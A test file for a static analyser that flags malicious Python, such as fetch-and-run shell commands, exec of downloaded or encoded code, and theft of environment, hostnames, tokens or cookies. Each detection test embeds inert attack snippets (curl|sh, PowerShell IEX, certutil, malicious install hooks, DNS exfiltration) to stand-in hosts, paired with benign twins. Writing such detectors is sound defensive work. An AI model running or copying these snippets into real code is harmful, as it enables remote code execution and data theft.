/**
 * Python read as code (analysis/python/flow.ts): each rule with the shape it catches, variants
 * written here (other syntax, aliases, URL building), and the honest twin it must leave alone.
 * Everything is parsed as text; nothing here is run. The malicious shapes are inert strings.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { loadParsers } from '../../shared/parsers/tree-sitter.js';
import { analysePython } from '../../shared/packages/analysis/python/flow.js';
import { hasCompatLetters, protectedCode } from '../../shared/packages/analysis/python/review.js';

const ids = (src: string): string[] => {
  const f = analysePython(src);
  assert.ok(f, 'parsed within its budget');
  return f!.findings.map((x) => x.ruleId);
};

test.before(async () => {
  await loadParsers();
});

// ---- remote code execution through data flow ---------------------------------------------------

test('remote_code_exec: a fetched response reaches exec (urlopen, requests, httpx; aliases)', () => {
  assert.ok(ids("import urllib.request\nexec(urllib.request.urlopen('https://h.example/x').read())\n").includes('remote_code_exec'));
  assert.ok(ids("import requests as rq\nr = rq.get('https://h.example/p')\ncode = r.text\neval(compile(code, 'x', 'exec'))\n").includes('remote_code_exec'));
  assert.ok(ids("from httpx import get as g\nsrc = g('https://h.example/p').content\nexec(src)\n").includes('remote_code_exec'));
  // URL as an integer array or joined characters: still a fetch whose result is executed.
  assert.ok(ids("import urllib.request as u\nexec(u.urlopen(bytes([104,116,116,112,115,58,47,47]).decode()).read())\n").includes('remote_code_exec'));
});

test('download_execute: a streamed download written to a file and started through an aliased system()', () => {
  const src = [
    'import requests, tempfile, os',
    'from os import system as s',
    "url = f'https://{host}/payload.exe'",
    'r = requests.get(url, stream=True)',
    "p = os.path.join(tempfile.gettempdir(), 'u.exe')",
    "with open(p, 'wb') as fh:",
    '    for chunk in r.iter_content(8192):',
    '        fh.write(chunk)',
    's(p)',
  ].join('\n');
  assert.ok(ids(src).includes('download_execute'));
  // Variant: urlretrieve then subprocess.Popen of the path, inside a function.
  assert.ok(ids("import subprocess as sp, urllib.request\ndef go():\n    dst = 'C:/Users/Public/a.exe'\n    urllib.request.urlretrieve('https://h.example/a.exe', dst)\n    sp.Popen([dst])\n").includes('download_execute'));
});

test('honest twin: a downloaded data file that is only read, and an exec of a local version file', () => {
  assert.equal(ids("import requests, json\nr = requests.get('https://api.example.org/v1', stream=True)\nwith open('out.json', 'wb') as f:\n    for c in r.iter_content(1024):\n        f.write(c)\nprint(json.load(open('out.json')))\n"), []);
  assert.equal(ids("import os, subprocess\nabout = {}\nwith open(os.path.join('pkg', '__about__.py')) as fp:\n    exec(fp.read(), about)\nsetup(url='https://github.com/o/p', version=about['__version__'])\n"), []);
  assert.equal(ids("exec(open('pkg/version.py').read())\nimport subprocess\nsetup(url='https://example.org')\n"), []);
});

test('names are per function: a response in one function does not taint a same-named variable in another', () => {
  const src = "import requests, os\ndef a():\n    data = requests.get('https://h.example').content\n    return len(data)\ndef b(path):\n    data = open(path).read()\n    exec(data)\n";
  assert.equal(ids(src), []);
});

// ---- shell commands that fetch remote code -------------------------------------------------------

test('shell_remote_command: a remote script run by a shell, through aliases, joins and chr() arrays', () => {
  const f = analysePython("import os\nos.system('powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAKABOAGUAdwA=')\n")!;
  assert.ok(f.remoteCommand);
  assert.ok(f.findings.some((x) => x.ruleId === 'shell_remote_command'));
  // The URL built from chr() codes, the download piped to sh in the argv of sh -c.
  assert.ok(analysePython("import subprocess as sp\nu = ''.join(chr(x) for x in [104,116,116,112,58,47,47,104])\nsp.Popen(['sh', '-c', 'curl -s ' + u + ' | sh'])\n")!.remoteCommand);
  // Through getattr of __import__: a download to a file, then that file run, in one command line.
  assert.ok(analysePython("s = getattr(__import__('os'), 'system')\ns('wget -q http://h.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x')\n")!.remoteCommand);
});

// Each shape of "fetched, then run by a shell": the tool, the syntax, and the distance between the two vary.
const REMOTE_RUNS: [string, string][] = [
  ['curl | sh', "import os\nos.system('curl -fsSL https://h.example/i.sh | sh')\n"],
  ['wget -O- | sudo bash', "import subprocess\nsubprocess.run('wget -qO- https://h.example/i | sudo -E bash -s -- --yes', shell=True)\n"],
  ['curl | python3 -', "import subprocess\nsubprocess.call(['bash', '-c', 'curl -s https://h.example/p.py | python3 -'])\n"],
  ['bash -c "$(curl …)"', "import os\nos.system('bash -c \"$(curl -fsSL https://h.example/x)\"')\n"],
  ['sh <(wget …)', "import subprocess\nsubprocess.Popen(['bash', '-c', 'sh <(wget -qO- http://198.51.100.4/x)'])\n"],
  ['eval "$(curl …)" from an f-string', "import os\nhost = input()\nos.system(f'eval \"$(curl -s https://{host}/x)\"')\n"],
  ['IEX DownloadString', "import subprocess\nsubprocess.run(['powershell', '-NoProfile', '-Command', \"IEX (New-Object Net.WebClient).DownloadString('https://h.example/p.ps1')\"])\n"],
  ['iwr | iex', "import os\nos.popen('powershell -c \"iwr https://h.example/p.ps1 -UseBasicParsing | iex\"')\n"],
  ['certutil then start', "import os\nos.system('certutil -urlcache -split -f http://h.example/a.exe %TEMP%\\\\a.exe & start %TEMP%\\\\a.exe')\n"],
  ['curl -O then python3 file', "import subprocess\nsubprocess.run('curl -sO https://h.example/run.py && python3 run.py', shell=True)\n"],
  ['mshta URL', "import subprocess\nsubprocess.Popen(['mshta', 'http://h.example/x.hta'])\n"],
  ['download in one call, run in another', "import subprocess\nsubprocess.run(['curl', '-s', '-o', '/tmp/.u', 'https://h.example/u'])\nsubprocess.run(['chmod', '+x', '/tmp/.u'])\nsubprocess.Popen(['/tmp/.u'])\n"],
  ['download in one function, run in another through a name', "import subprocess\nP = '/tmp/upd.sh'\ndef fetch():\n    subprocess.run(['wget', '-q', 'https://h.example/u.sh', '-O', P])\ndef later():\n    subprocess.run(['sh', P])\n"],
  ['argv bound to a name', "import subprocess\nCMD = ['sh', '-c', 'curl -s http://203.0.113.9/a | sh']\nsubprocess.run(CMD)\n"],
  ['a download to a path built at run time, then that path run (f-string)', "import subprocess\ndef run(name):\n    subprocess.run(f'wget -qO /tmp/{name} https://h.example/raw/b && chmod +x /tmp/{name} && /tmp/{name}', shell=True)\n"],
  ['a path built at run time: downloaded in one call, run from a shell loop in another', "import subprocess, random\ndef go():\n    n = str(random.randint(1, 9999))\n    subprocess.run(f'curl -so /tmp/{n} https://h.example/raw/b && chmod +x /tmp/{n}', shell=True)\n    cmd = ['bash', '-c', f'while true; do /tmp/{n} --pool x; sleep 5; done']\n    subprocess.Popen(cmd)\n"],
  ['python -c fetch and exec', "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import urllib.request as u;exec(u.urlopen(\"http://203.0.113.8/p\").read())'])\n"],
];

test('shell_remote_command: remote scripts fetched and run (tools, syntax, distance)', () => {
  for (const [what, src] of REMOTE_RUNS) {
    const f = analysePython(src)!;
    assert.ok(f.remoteCommand, what);
    assert.ok(
      f.findings.some((x) => /^(?:shell_remote_command|remote_code_exec|download_execute|interpreter_inline_spawn)$/.test(x.ruleId)),
      `${what}: ${f.findings.map((x) => x.ruleId).join(', ')}`,
    );
  }
});

test('honest twins: an API called with curl, a git push to a literal remote, a data download, a JSON response parsed', () => {
  for (const src of [
    "import subprocess\ndef star(repo, token):\n    subprocess.run(['curl', '-X', 'POST', '-H', 'Authorization: token ' + token, 'https://api.github.com/user/starred/' + repo])\n",
    "import subprocess\ndef publish():\n    subprocess.check_call(['git', 'push', 'https://github.com/example/site.git', 'gh-pages'])\n",
    "import os\ndef fetch_data(d):\n    os.system('wget -q -O ' + d + '/data.csv https://data.example.org/v1/data.csv')\n",
    "import subprocess\nout = subprocess.check_output('curl -s https://api.example.com/v1/status | python3 -m json.tool', shell=True)\n",
    "import subprocess\nsubprocess.run('curl -sL https://h.example/src.tar.gz -o src.tar.gz && tar xzf src.tar.gz', shell=True)\n",
    "import subprocess\nsubprocess.check_call(['git', 'clone', 'https://chromium.googlesource.com/external/gyp', 'build-gyp'])\n",
    "import subprocess\nsubprocess.run(['curl', '-s', 'https://api.example.com/x', '-o', 'out.json'])\nsubprocess.run(['jq', '.name', 'out.json'])\n",
  ]) {
    const f = analysePython(src)!;
    assert.not.ok(f.remoteCommand, src);
    assert.equal(
      f.findings.filter((x) => x.severity === 'HIGH' || x.severity === 'CRITICAL').map((x) => x.ruleId),
      [],
      src,
    );
  }
});

test('a token handed to curl goes where the URL goes: its own service is nothing, a foreign host is a send', () => {
  assert.equal(ids("import os, subprocess\nsubprocess.run(['curl', '-H', 'Authorization: token ' + os.environ['GITHUB_TOKEN'], 'https://api.github.com/user'])\n"), []);
  assert.ok(ids("import os, subprocess\nsubprocess.run(['curl', '-H', 'Authorization: token ' + os.environ['GITHUB_TOKEN'], 'http://203.0.113.5/t'])\n").includes('service_token_exfil'));
  assert.ok(ids("import os, subprocess\nsubprocess.run(['curl', '-d', str(dict(os.environ)), 'https://collect.example.net/e'])\n").includes('env_exfil_flow'));
});

test('honest twin: local build commands are not remote commands', () => {
  for (const src of [
    "import subprocess\nout = subprocess.check_output(['pg_config', '--includedir'])\nsetup(url='https://www.psycopg.org/')\n",
    "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'cython', 'x.pyx'])\n",
    "import os\nos.system('make -C src/lib')\n",
  ]) {
    const f = analysePython(src)!;
    assert.not.ok(f.remoteCommand, src);
    assert.equal(f.findings, []);
  }
});

// ---- decoded code --------------------------------------------------------------------------------

test('decoded_code_exec: exec of base64 / zlib / marshal / XOR-decoded data, also through getattr and globals()', () => {
  assert.ok(ids("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n").includes('decoded_code_exec'));
  assert.ok(ids("import zlib as z, base64 as b\npayload = z.decompress(b.b64decode(blob))\ngetattr(__import__('builtins'), 'exec')(payload)\n").includes('decoded_code_exec'));
  assert.ok(ids("import marshal\ncode = marshal.loads(data)\nglobals()['__builtins__'].exec(code)\n").includes('decoded_code_exec') || ids("import marshal\ncode = marshal.loads(data)\nglobals()['exec'](code)\n").includes('decoded_code_exec'));
  assert.ok(ids("key = 42\nsrc = ''.join(chr(ord(c) ^ key) for c in blob)\nexec(src)\n").includes('decoded_code_exec'));
});

test('decoded_code_exec through a lambda decoder (the lambda obfuscators)', () => {
  assert.ok(ids("_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'=Aa'))\n").includes('decoded_code_exec'));
});

test('decoded_code_exec through tuple-unpacked aliases of exec', () => {
  assert.ok(ids('import zlib\n_s, _run, _m = str, exec, map\n_run(zlib.decompress(blob))\n').includes('decoded_code_exec'));
});

test('builtins_renamed: exec renamed with other builtins in one assignment; py2 compat aliases and a single exec alias are not', () => {
  assert.ok(ids('_a, B, _c, D = exec, str, tuple, ord\n').includes('builtins_renamed'));
  assert.ok(ids('x1, x2, x3 = map, __import__, chr\n').includes('builtins_renamed'));
  assert.equal(ids('input, range = raw_input, xrange\n'), []);
  assert.equal(ids("import builtins\nexec_ = getattr(builtins, 'exec')\n"), []);
  assert.equal(ids('a, b, c = str, int, float\n'), []);
});

test('a second stage kept as code in a string literal (decrypt and exec) is a recognised fact; a plain code template is not', () => {
  const stage = ['pl = """', 'from fernet import Fernet', "exec(Fernet(b'k').decrypt(b'gAAAAABk'))", '"""', "open('x.py', 'w').write(pl)", ''].join('\n');
  assert.ok(analysePython(stage)!.codeLiteralDecodeExec);
  const template = ['TEMPLATE = """', 'def main(src, path):', "    exec(compile(src, path, 'exec'))", '"""', ''].join('\n');
  assert.not.ok(analysePython(template)!.codeLiteralDecodeExec);
});

test('honest twin: decoding data that is never executed', () => {
  assert.equal(ids("import base64, json\ncfg = json.loads(base64.b64decode(os.environ['CFG']))\nprint(cfg)\n"), []);
});

// ---- NFKC identifiers ------------------------------------------------------------------------------

test('nfkc_identifier: __𝘪𝗺𝙥𝗼𝗿𝘵__ is __import__ for Python, and is resolved as such', () => {
  const f = analysePython("__𝘪𝗺𝙥𝗼𝗿𝘵__('builtins').exec(__𝘪𝗺𝙥𝗼𝗿𝘵__('base64').b64decode(x))\n")!;
  assert.ok(f.nfkcIdentifiers > 0);
  assert.ok(f.findings.some((x) => x.ruleId === 'nfkc_identifier'));
  assert.ok(f.findings.some((x) => x.ruleId === 'decoded_code_exec'));
  assert.ok(hasCompatLetters(Buffer.from('__𝘪𝗺𝙥𝗼𝗿𝘵__', 'utf8')));
  assert.ok(hasCompatLetters(Buffer.from('ｅｘｅｃ', 'utf8')));
});

test('honest twin: non-ASCII identifiers that NFKC leaves alone (é, ü) and Unicode in strings', () => {
  const f = analysePython("café = 'ü'\nprint('𝘩𝘦𝘭𝘭𝘰', café)\n")!;
  assert.equal(f.nfkcIdentifiers, 0);
  assert.equal(f.findings, []);
  assert.not.ok(hasCompatLetters(Buffer.from("café = 'ü'", 'utf8')));
});

// ---- recon sent out ---------------------------------------------------------------------------------

test('recon_exfil_flow: user, host and the whole environment reach a send (through a dict, json and Request)', () => {
  const src = [
    'import os, json, getpass, socket',
    'from urllib import request',
    "env = ''",
    'for a in os.environ:',
    "    env += a + '=' + os.getenv(a)",
    "data = json.dumps({'u': getpass.getuser(), 'h': socket.gethostname(), 'e': env})",
    "r = request.Request('https://collector.example/c', data=data.encode())",
    'request.urlopen(r)',
  ].join('\n');
  const f = analysePython(src)!;
  assert.ok(f.reconSent);
  const hit = f.findings.find((x) => x.ruleId === 'recon_exfil_flow');
  assert.ok(hit);
  assert.match(hit!.evidence, /collector\.example/);
  // Variant: a function that returns the host name, posted with requests.
  assert.ok(analysePython("import platform, requests\ndef info():\n    return {'n': platform.node()}\nrequests.post('http://h.example', json=info())\n")!.reconSent);
});

test('recon_exfil_flow: the public IP from an IP-echo service and browser cookies posted to a webhook in an f-string', () => {
  assert.ok(analysePython("import requests\nip = requests.get('https://api.ipify.org').text\nrequests.post(HOOK, data={'content': f'IP: {ip}'})\n")!.reconSent);
  assert.ok(analysePython("import browser_cookie3, requests\ncj = browser_cookie3.chrome(domain_name='example.com')\nrequests.post(HOOK, json={'c': [c.value for c in cj]})\n")!.reconSent);
  // A cookie library used locally (a session for its own requests) sends no cookie store out by itself.
  assert.not.ok(analysePython("import browser_cookie3\ncj = browser_cookie3.firefox()\nprint(len(cj))\n")!.reconSent);
});

test('download_execute: a literal script that fetches and runs code, written to a temp file and started with an aliased system()', () => {
  const src = "from tempfile import NamedTemporaryFile as _f\nfrom sys import executable as _e\nfrom os import system as _s\nt = _f(delete=False)\nt.write(b\"from urllib.request import urlopen as u;exec(u('https://h.example/raw').read())\")\nt.close()\n_s(f'start {_e} {t.name}')\n";
  assert.ok(ids(src).includes('download_execute'));
  // Honest twin: a temp file with a config literal, opened in an editor.
  assert.equal(ids("from tempfile import NamedTemporaryFile\nimport os\nt = NamedTemporaryFile(delete=False, suffix='.ini')\nt.write(b'[main]\\nurl = https://example.org\\n')\nt.close()\nos.system(f'editor {t.name}')\n"), []);
});

test('honest twin: the host name used locally, a token read from one variable and sent to an API', () => {
  assert.not.ok(analysePython("import getpass, platform, requests\nlabel = '%s@%s' % (getpass.getuser(), platform.node())\nprint(label)\nrequests.get('https://api.example.org')\n")!.reconSent);
  assert.not.ok(analysePython("import os, requests\nrequests.post('https://api.example.org', headers={'Authorization': os.environ.get('API_TOKEN')})\n")!.reconSent);
});

// ---- cmdclass install overrides ---------------------------------------------------------------------

test('setup_install_hook_exec: an install override that starts a process; a build_ext override that runs cmake is not one', () => {
  const hook = "from setuptools import setup\nfrom setuptools.command.install import install\nimport subprocess\nclass Post(install):\n    def run(self):\n        install.run(self)\n        subprocess.Popen(['python3', '-c', 'import helper'], close_fds=True)\nsetup(name='x', cmdclass={'install': Post})\n";
  assert.ok(ids(hook).includes('setup_install_hook_exec'));
  const develop = "from setuptools.command.develop import develop as _d\nimport os\nclass D(_d):\n    def run(self):\n        os.system('echo hi')\n        _d.run(self)\n";
  assert.ok(ids(develop).includes('setup_install_hook_exec'));
  const build = "from setuptools.command.build_ext import build_ext\nimport subprocess\nclass B(build_ext):\n    def run(self):\n        subprocess.check_call(['cmake', '..'])\n";
  assert.equal(ids(build), []);
});

// ---- DNS recon ----------------------------------------------------------------------------------------

test('recon_exfil_flow through DNS: a name built from the user and host is looked up; resolving the own host name is not', () => {
  assert.ok(analysePython("import socket, getpass\nsocket.gethostbyname(f'{getpass.getuser()}.{socket.gethostname()}.x.example')\n")!.reconSent);
  assert.ok(analysePython("import dns.resolver, os\nu = os.getlogin()\ndns.resolver.resolve(u + '.t.example', 'A')\n")!.reconSent);
  // Variant: the name is built in steps (base32 of the user and host, then joined to a domain).
  assert.ok(analysePython("import socket, os, base64\nu = base64.b32encode(os.getlogin().encode()).decode()\nh = socket.gethostname()\nd = u + '.' + h + '.t.example.net'\nsocket.gethostbyname(d)\n")!.reconSent);
  assert.not.ok(analysePython("import socket\naddrs = socket.getaddrinfo(socket.gethostname(), 0)\n")!.reconSent);
  assert.not.ok(analysePython("import socket\nhost = 'db.internal.example'\nsocket.gethostbyname(host)\n")!.reconSent);
});

// ---- interpreters started with inline code at module level ---------------------------------------------

test('interpreter_inline_spawn: module-level python -c (list, sys.executable, string); inside a function it is not reported', () => {
  assert.ok(ids("import subprocess\np = subprocess.Popen(['python3', '-c', 'import helper'], close_fds=True)\n").includes('interpreter_inline_spawn'));
  assert.ok(ids("import subprocess as s, sys\ns.Popen([sys.executable, '-c', 'import second_stage'])\n").includes('interpreter_inline_spawn'));
  assert.ok(ids("import os\nos.system('pythonw -c \"import x\"')\n").includes('interpreter_inline_spawn'));
  assert.equal(ids("import subprocess, sys\ndef include_dir():\n    return subprocess.check_output([sys.executable, '-c', 'import numpy; print(numpy.get_include())'])\n"), []);
  assert.equal(ids("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', '--version'])\n"), []);
});

// ---- PyArmor-protected code ------------------------------------------------------------------------------

test('protected_code: a PyArmor blob is reported; PyArmor documentation naming the call is not', () => {
  const blob = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52\\x00\\x00\\x03')\n";
  const f = protectedCode('p/__init__.py', blob);
  assert.ok(f);
  assert.is(f!.line, 3);
  assert.ok(protectedCode('p/m.py', "from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03')\n"));
  assert.is(protectedCode('pyarmor/docs.py', "HELP = 'a protected script calls __pyarmor__(__name__, __file__, <blob>) at import'\n"), null);
});


// ---- scopes: a name a function binds anywhere is local to it for the whole body --------------------------

test('a local with no taint does not read the module variable of the same name (assigned, loop, with, parameter, bound later)', () => {
  const mod = "import getpass, requests\nuser = getpass.getuser()\n";
  for (const body of [
    "def signup():\n    user = input('name: ')\n    requests.post('https://api.example.com/signup', json={'u': user})\n",
    "def f():\n    for user in ('a', 'b'):\n        requests.post('https://api.example.com/u', json={'u': user})\n",
    "class C:\n    def f(self, user):\n        requests.post('https://api.example.com/u', json={'u': user})\n",
    "def f():\n    with open('u.txt') as user:\n        requests.post('https://api.example.com/u', data=user)\n",
    // Bound after the use: still local in Python (the read would raise UnboundLocalError).
    "def f():\n    requests.post('https://api.example.com/u', json={'u': user})\n    user = 'x'\n",
  ]) {
    assert.equal(ids(mod + body), [], body);
  }
});

test('the module variable is still read where the function binds nothing of that name, in closures, and through global', () => {
  const mod = "import getpass, requests\nuser = getpass.getuser()\n";
  assert.ok(ids(`${mod}def report():\n    requests.post('https://c.example/r', json={'u': user})\n`).includes('recon_exfil_flow'));
  assert.ok(ids(`${mod}def outer():\n    def inner():\n        requests.post('https://c.example/u', json={'u': user})\n    inner()\n`).includes('recon_exfil_flow'));
  // A closure reads its enclosing function's binding.
  assert.ok(ids("import getpass, requests\ndef outer():\n    u = getpass.getuser()\n    def inner():\n        requests.post('https://c.example/u', json={'u': u})\n    inner()\n").includes('recon_exfil_flow'));
  // `global` makes the function's assignment the module's: read at module level.
  assert.ok(ids("import requests\ndata = None\n\ndef load():\n    global data\n    data = requests.get('https://h.example/p').text\n\nload()\nexec(data)\n").includes('remote_code_exec'));
  // A local that is tainted keeps its own taint.
  assert.ok(ids("import requests\ndef f():\n    code = requests.get('https://h.example/p').text\n    exec(code)\n").includes('remote_code_exec'));
});
test.run();
